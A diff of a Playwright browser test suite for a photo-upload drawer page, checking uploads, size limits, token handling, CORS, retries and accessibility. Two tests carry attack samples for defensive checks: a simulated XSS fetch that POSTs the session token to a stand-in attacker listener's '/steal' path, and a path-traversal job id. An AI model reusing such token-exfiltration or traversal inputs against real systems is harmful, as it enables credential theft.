@@ -1,134 +1,215 @@
-// The job-drawer capture page, driven in Debian's Chromium (run by scripts/browser-test.sh).
+// The job-drawer capture module on its demo host, driven in Debian's Chromium against the real
+// stack (Garage, moto, the function under cargo lambda watch, the pipeline's stand-in).
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
-import { execFileSync } from "node:child_process";
-import { randomUUID } from "node:crypto";
-import { chromium } from "playwright-core";
+import { createServer } from "node:http";
+import { readFileSync } from "node:fs";
+import {
+  API_URL, BROWSER_MAX_BYTES, BROWSER_TOKEN, LONG, OTHER_PAGE_URL, PAGE_URL, PHONE, S3_ORIGIN, SCREENSHOT,
+  assertNoProblems, auditEvents, completedKeys, enterToken, jpeg, jpegFiles, launch, listedPhotos, newJob,
+  openDrawer, signedInDrawer, waitRecorded, waitThumbnails,
+} from "./support.mjs";
 
-const { PAGE_URL, OTHER_PAGE_URL, API_URL, BROWSER_TOKEN, BROWSER_MAX_BYTES, PYTHON, SCREENSHOT } = process.env;
 let browser;
-
-before(async () => {
-  browser = await chromium.launch({
-    executablePath: "/usr/bin/chromium",
-    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-      "--disable-background-networking", "--disable-component-update", "--disable-sync"],
-  });
-});
+before(async () => { browser = await launch(); });
 after(async () => browser?.close());
 
-async function openDrawer(job, pageUrl = PAGE_URL) {
-  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 2 });
-  const page = await context.newPage();
-  page.on("pageerror", (err) => assert.fail(`page error: ${err.message}`));
-  await page.goto(`${pageUrl}/?job=${job}&api=${encodeURIComponent(API_URL)}`);
-  return page;
-}
+test("two photos upload in parallel, are recorded once, and show as the pipeline's thumbnails", async () => {
+  const job = newJob();
+  const page = await signedInDrawer(browser, job);
+  const files = await jpegFiles(page, ["front-door.jpg", "meter.jpg"]);
+  await page.setInputFiles(".qc-file", files);
 
-async function enterToken(page, token) {
-  await page.waitForSelector("#token-form:not([hidden])");
-  await page.fill("#token", token);
-  await page.click("#token-form button");
-}
-
-/** A real JPEG drawn by the browser's own encoder: different colours per seed. */
-async function jpeg(page, seed) {
-  const dataUrl = await page.evaluate((seed) => {
-    const canvas = document.createElement("canvas");
-    canvas.width = 320;
-    canvas.height = 240;
-    const ctx = canvas.getContext("2d");
-    const gradient = ctx.createLinearGradient(0, 0, 320, 240);
-    gradient.addColorStop(0, `hsl(${seed * 90}, 70%, 50%)`);
-    gradient.addColorStop(1, `hsl(${seed * 90 + 45}, 70%, 30%)`);
-    ctx.fillStyle = gradient;
-    ctx.fillRect(0, 0, 320, 240);
-    ctx.fillStyle = "#fff";
-    ctx.font = "bold 48px sans-serif";
-    ctx.fillText(`Photo ${seed}`, 40, 140);
-    return canvas.toDataURL("image/jpeg", 0.9);
-  }, seed);
-  return Buffer.from(dataUrl.split(",")[1], "base64");
-}
-
-function auditEvents(job) {
-  const out = execFileSync(PYTHON, ["scripts/local_aws.py", "audit", job], { encoding: "utf8" });
-  return out.trim().split("\n").filter(Boolean).map((line) => JSON.parse(line).event.S);
-}
-
-async function listedPhotos(job) {
-  const resp = await fetch(`${API_URL}/photos?job_id=${job}`, { headers: { authorization: `Bearer ${BROWSER_TOKEN}` } });
-  assert.equal(resp.status, 200);
-  return (await resp.json()).photos;
-}
-
-test("two photos upload in parallel, show as the pipeline's thumbnails and are recorded once", async () => {
-  const job = `b-${randomUUID().slice(0, 8)}`;
-  const page = await openDrawer(job);
-  await enterToken(page, BROWSER_TOKEN);
-  await page.waitForSelector("#strip-status:has-text('No photos yet.')");
-  const files = [
-    { name: "front-door.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 1) },
-    { name: "meter.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 2) },
-  ];
-  await page.setInputFiles("#capture", files);
-
-  await page.waitForFunction(() => document.querySelectorAll("#uploads li.done").length === 2, null, { timeout: 60_000 });
-  const bars = await page.$$eval("#uploads progress", (ps) => ps.map((p) => p.value));
-  assert.deepEqual(bars, [100, 100]);
+  await waitRecorded(page, 2);
+  assert.deepEqual(await page.$$eval(".qc-uploads progress", (ps) => ps.map((p) => p.value)), [100, 100]);
+  assert.equal(await page.textContent(".qc-summary"), "2 of 2 recorded.");
   // The strip shows the pipeline's thumbnails (made on S3's event, here the local stand-in's),
   // loaded, each opening the full-size photo when tapped.
-  await page.waitForFunction(
-    () => [...document.querySelectorAll("#strip img")]
-      .filter((img) => img.src.includes("/thumbs/") && img.complete && img.naturalWidth > 0).length === 2,
-    null,
-    { timeout: 60_000 },
-  );
-  const links = await page.$$eval("#strip a", (as) => as.map((a) => a.href));
+  await waitThumbnails(page, 2);
+  const links = await page.$$eval(".qc-strip a", (as) => as.map((a) => a.href));
   assert.equal(links.length, 2);
   assert.ok(links.every((href) => href.includes(`/jobs/${job}/`) && !href.includes("/thumbs/")), links.join("\n"));
-  assert.equal(await page.textContent("#status"), "2 of 2 uploaded.");
-  assert.deepEqual(auditEvents(job).filter((e) => e === "upload_completed"), ["upload_completed"]);
+  assert.equal((await completedKeys(job)).length, 2, "each key recorded once");
   const photos = await listedPhotos(job);
   assert.deepEqual(photos.map((p) => p.size).sort(), files.map((f) => f.buffer.length).sort());
-  await page.screenshot({ path: SCREENSHOT, fullPage: true });
+  // Screen readers heard what finished, not every percent.
+  assert.match(await page.textContent(".qc-sr"), /recorded/);
+  await page.screenshot({ path: SCREENSHOT });
+  assertNoProblems(page);
 });
 
 test("a file over max_bytes is refused before upload and nothing is stored", async () => {
-  const job = `b-${randomUUID().slice(0, 8)}`;
-  const page = await openDrawer(job);
-  await enterToken(page, BROWSER_TOKEN);
+  const job = newJob();
+  const page = await signedInDrawer(browser, job);
   const big = Buffer.concat([await jpeg(page, 3), Buffer.alloc(Number(BROWSER_MAX_BYTES))]);
-  await page.setInputFiles("#capture", [{ name: "too-big.jpg", mimeType: "image/jpeg", buffer: big }]);
-  await page.waitForSelector("#uploads li.failed");
-  assert.match(await page.textContent("#uploads li .msg"), /Too large: too-big\.jpg is .* MB/);
-  assert.equal(await page.textContent("#status"), "Nothing was uploaded.");
+  await page.setInputFiles(".qc-file", [{ name: "too-big.jpg", mimeType: "image/jpeg", buffer: big }]);
+  await page.waitForSelector(".qc-uploads li[data-state=failed]");
+  assert.match(await page.textContent(".qc-uploads li .qc-msg"), /Too large: too-big\.jpg is .* MB/);
+  assert.equal(await page.textContent(".qc-summary"), "0 of 1 recorded, 1 failed.");
+  // A failed photo can be removed from the queue (and so from the phone's storage).
+  await page.click(".qc-uploads li button:has-text('Remove')");
+  await page.waitForFunction(() => document.querySelectorAll(".qc-uploads li").length === 0);
   assert.deepEqual(await listedPhotos(job), []);
   assert.ok(!auditEvents(job).includes("upload_completed"));
+  assertNoProblems(page);
 });
 
-test("a wrong token gets the 401 message and a new prompt", async () => {
-  const page = await openDrawer(`b-${randomUUID().slice(0, 8)}`);
+test("a wrong token gets the 401 message and a new prompt, and is never put in a URL", async () => {
+  const page = await openDrawer(browser, newJob());
+  const urls = [];
+  page.on("request", (req) => urls.push(req.url()));
   await enterToken(page, "not-the-token");
   await page.waitForSelector("#token-reason:has-text('was not accepted')");
   assert.equal(await page.isVisible("#token-form"), true);
-  assert.equal(await page.evaluate(() => location.search.includes("not-the-token")), false, "token never in the URL");
+  assert.equal(await page.evaluate(() => sessionStorage.getItem("qdn-photos-token")), null, "a refused token is forgotten");
+  assert.ok(urls.length > 0 && urls.every((u) => !u.includes("not-the-token")), urls.join("\n"));
+  assertNoProblems(page);
 });
 
 test("a page served from an origin not in ALLOWED_ORIGINS is blocked by the browser's CORS check", async () => {
   // The function's own CORS answers here (cargo lambda watch runs with --disable-cors), as the
   // HTTP API's CorsConfiguration does in production: a refused preflight, no readable response.
-  const job = `b-${randomUUID().slice(0, 8)}`;
-  const page = await openDrawer(job, OTHER_PAGE_URL);
+  const job = newJob();
+  const page = await openDrawer(browser, job, { pageUrl: OTHER_PAGE_URL });
   const corsErrors = [];
   page.on("console", (msg) => { if (/CORS policy/.test(msg.text())) corsErrors.push(msg.text()); });
-  await enterToken(page, BROWSER_TOKEN);
-  await page.waitForSelector("#strip-status:has-text('No connection to the server.')");
-  await page.setInputFiles("#capture", [{ name: "blocked.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 4) }]);
-  await page.waitForSelector("#uploads li.failed");
+  await enterToken(page);
+  await page.waitForSelector(".qc-strip-status:has-text('No connection to the server.')", LONG);
+  await page.setInputFiles(".qc-file", [{ name: "blocked.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 4) }]);
+  await page.waitForSelector(".qc-uploads li:has-text('waiting for connection')", LONG);
   assert.ok(corsErrors.length >= 1, "the browser reported the CORS refusal");
   assert.ok(corsErrors.every((e) => e.includes(OTHER_PAGE_URL)), corsErrors.join("\n"));
   // The API answered the same request from the allowed origin's page, and issued nothing here.
   assert.deepEqual(auditEvents(job), []);
   assert.deepEqual(await listedPhotos(job), []);
+});
+
+test("a page URL naming another API changes nothing: the token goes only to the deployed API", async () => {
+  // A hostile link: the real page, told to use a listener of the attacker's.
+  const seen = [];
+  const evil = createServer((req, res) => {
+    seen.push({ url: req.url, authorization: req.headers.authorization });
+    res.writeHead(200, { "access-control-allow-origin": "*", "access-control-allow-headers": "*", "content-type": "application/json" });
+    res.end(JSON.stringify({ url: "http://127.0.0.1:1/", fields: {}, key: "x", max_bytes: 1e9, photos: [] }));
+  });
+  await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
+  const evilUrl = `http://127.0.0.1:${evil.address().port}`;
+  try {
+    const job = newJob();
+    const context = await browser.newContext(PHONE);
+    const withAuth = [];
+    context.on("request", (req) => {
+      const headers = req.headers();
+      if (headers.authorization) withAuth.push(new URL(req.url()).origin);
+    });
+    const page = await openDrawer(browser, job, { context, query: `&api=${encodeURIComponent(evilUrl)}&apiBase=${encodeURIComponent(evilUrl)}` });
+    await enterToken(page);
+    await page.setInputFiles(".qc-file", [{ name: "site.jpg", mimeType: "image/jpeg", buffer: await jpeg(page, 5) }]);
+    await waitRecorded(page, 1);
+    assert.deepEqual(completedKeys(job).length, 1, "uploaded and recorded through the deployed API");
+
+    // Even script running in the page (an XSS) cannot reach the listener: connect-src stops it.
+    const outcome = await page.evaluate(async (url) => {
+      try {
+        await fetch(`${url}/steal`, { method: "POST", body: sessionStorage.getItem("qdn-photos-token") });
+        return "sent";
+      } catch {
+        return "blocked";
+      }
+    }, evilUrl);
+    assert.equal(outcome, "blocked");
+    assert.deepEqual(seen, [], "the listener never received a request");
+    assert.ok(withAuth.length >= 3, withAuth.join("\n"));
+    assert.deepEqual([...new Set(withAuth)], [new URL(API_URL).origin], "Authorization went to the API only");
+    await context.close();
+  } finally {
+    evil.close();
+  }
+});
+
+test("a job id that is not one is refused by the page before any request", async () => {
+  const context = await browser.newContext(PHONE);
+  const apiCalls = [];
+  context.on("request", (req) => { if (req.url().startsWith(API_URL)) apiCalls.push(req.url()); });
+  const page = await openDrawer(browser, encodeURIComponent("../../upload-url?job_id=x"), { context });
+  await page.waitForSelector("#page-problem:not([hidden])");
+  assert.match(await page.textContent("#page-problem"), /cannot open job/);
+  assert.deepEqual(apiCalls, []);
+  await context.close();
+});
+
+test("one upload cut by the network: the other two are recorded and shown before Retry is clicked", async () => {
+  const job = newJob();
+  const page = await signedInDrawer(browser, job);
+  const files = await jpegFiles(page, ["kitchen.jpg", "cut.jpg", "boiler.jpg"]);
+  const cutSize = String(files[1].buffer.length);
+  // The grant for cut.jpg (the only file of its size) is tagged, and the POST to S3 that carries
+  // that tag has its connection cut, for as long as `cut` holds.
+  let cut = true;
+  let cutAttempts = 0;
+  await page.route(`${API_URL}/upload-url?**`, async (route) => {
+    const url = new URL(route.request().url());
+    if (route.request().method() !== "GET" || url.searchParams.get("size") !== cutSize || !cut) return route.continue();
+    const resp = await route.fetch();
+    const grant = await resp.json();
+    grant.url += "?cut=1";
+    return route.fulfill({ response: resp, json: grant });
+  });
+  await page.route(`${S3_ORIGIN}/**`, (route) => {
+    if (!route.request().url().includes("cut=1")) return route.continue();
+    cutAttempts++;
+    return route.abort("internetdisconnected");
+  });
+  await page.setInputFiles(".qc-file", files);
+
+  await waitRecorded(page, 2);
+  await page.waitForSelector(".qc-uploads li:has-text('cut.jpg') button:has-text('Retry')", LONG);
+  assert.ok(cutAttempts >= 1);
+  assert.match(await page.textContent(".qc-uploads li:has-text('cut.jpg')"), /waiting for connection/);
+  // Recorded and shown while cut.jpg still waits.
+  const others = (await listedPhotos(job)).map((p) => p.size).sort();
+  assert.deepEqual(others, [files[0], files[2]].map((f) => f.buffer.length).sort());
+  await waitThumbnails(page, 2);
+
+  // Back on the network, Retry (or the automatic retry, if it came first) sends it: recorded once.
+  cut = false;
+  await page.evaluate(() => [...document.querySelectorAll(".qc-uploads li")]
+    .find((li) => li.textContent.includes("cut.jpg"))?.querySelector("button")?.click());
+  await waitRecorded(page, 3);
+  await waitThumbnails(page, 3);
+  const keys = completedKeys(job);
+  assert.equal(keys.length, 3);
+  assert.equal(new Set(keys).size, 3, "nothing recorded twice");
+  assert.equal((await listedPhotos(job)).length, 3);
+  assertNoProblems(page);
+});
+
+test("keyboard and screen readers: every control labelled and operable, no serious axe-core finding", async () => {
+  const job = newJob();
+  const page = await signedInDrawer(browser, job);
+  // Tab reaches the capture button; Enter opens the camera/file chooser.
+  let focused = "";
+  for (let i = 0; i < 10 && focused !== "qc-file"; i++) {
+    await page.keyboard.press("Tab");
+    focused = await page.evaluate(() => document.activeElement?.className || "");
+  }
+  assert.equal(focused, "qc-file", "the capture button is in the tab order");
+  const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.keyboard.press("Enter")]);
+  assert.ok(chooser.isMultiple());
+  await chooser.setFiles(await jpegFiles(page, ["by-keyboard.jpg"]));
+  await waitRecorded(page, 1);
+  await waitThumbnails(page, 1);
+  // And a failed row, so its Retry and Remove are checked too.
+  await page.setInputFiles(".qc-file", [{ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("hello") }]);
+  await page.waitForSelector(".qc-uploads li[data-state=failed]");
+  assert.match(await page.textContent(".qc-sr"), /notes\.txt failed/);
+
+  await page.evaluate(readFileSync("node_modules/axe-core/axe.min.js", "utf8"));
+  const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
+  const serious = violations.filter((v) => v.impact === "serious" || v.impact === "critical");
+  assert.deepEqual(serious.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(", ")}`), []);
+  const names = await page.$$eval(".qdn-capture button, .qdn-capture input, .qc-strip a", (els) =>
+    els.map((el) => el.getAttribute("aria-label") || el.labels?.[0]?.textContent || el.querySelector("img")?.alt || el.textContent));
+  assert.ok(names.every((n) => n && n.trim()), names.join(" | "));
+  assertNoProblems(page);
 });
